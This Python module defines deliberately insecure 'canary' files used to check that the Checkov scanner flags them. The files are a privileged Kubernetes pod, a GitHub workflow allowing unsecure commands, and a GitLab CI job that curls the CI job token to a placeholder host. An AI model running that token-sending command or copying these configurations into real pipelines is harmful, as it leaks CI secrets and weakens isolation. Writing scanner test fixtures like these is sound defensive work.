"""Canaries: documents that are wrong on purpose. A scanner that does not say so does not look at ours either.

The check that each one breaks, and the framework that it belongs to, are those of Checkov 3.3.30.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Canary:
    """path and text: the file. check: what has to be found in it. framework: the part of the scanner."""

    path: str
    text: str
    check: str
    framework: str


CANARIES = (
    Canary(
        "manifests/canary.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: canary\n  namespace: canary\nspec:\n  containers:\n"
        "    - name: canary\n      image: canary\n      securityContext:\n        privileged: true\n",
        "CKV_K8S_16",
        "kubernetes",
    ),
    Canary(
        "manifests/canary-workflow.yaml",
        "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata:\n  name: canary\n"
        "spec:\n  entrypoint: canary\n",
        "CKV_ARGO_1",
        "argo_workflows",
    ),
    Canary(
        ".github/workflows/canary.yaml",
        "on: push\njobs:\n  canary:\n    runs-on: canary\n    env:\n"
        "      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n    steps:\n      - run: canary\n",
        "CKV_GHA_1",
        "github_actions",
    ),
    Canary(
        "canary/.gitlab-ci.yml",
        'canary:\n  script:\n    - curl --header "JOB-TOKEN $CI_JOB_TOKEN" https://canary.example.com\n',
        "CKV_GITLABCI_1",
        "gitlab_ci",
    ),
)
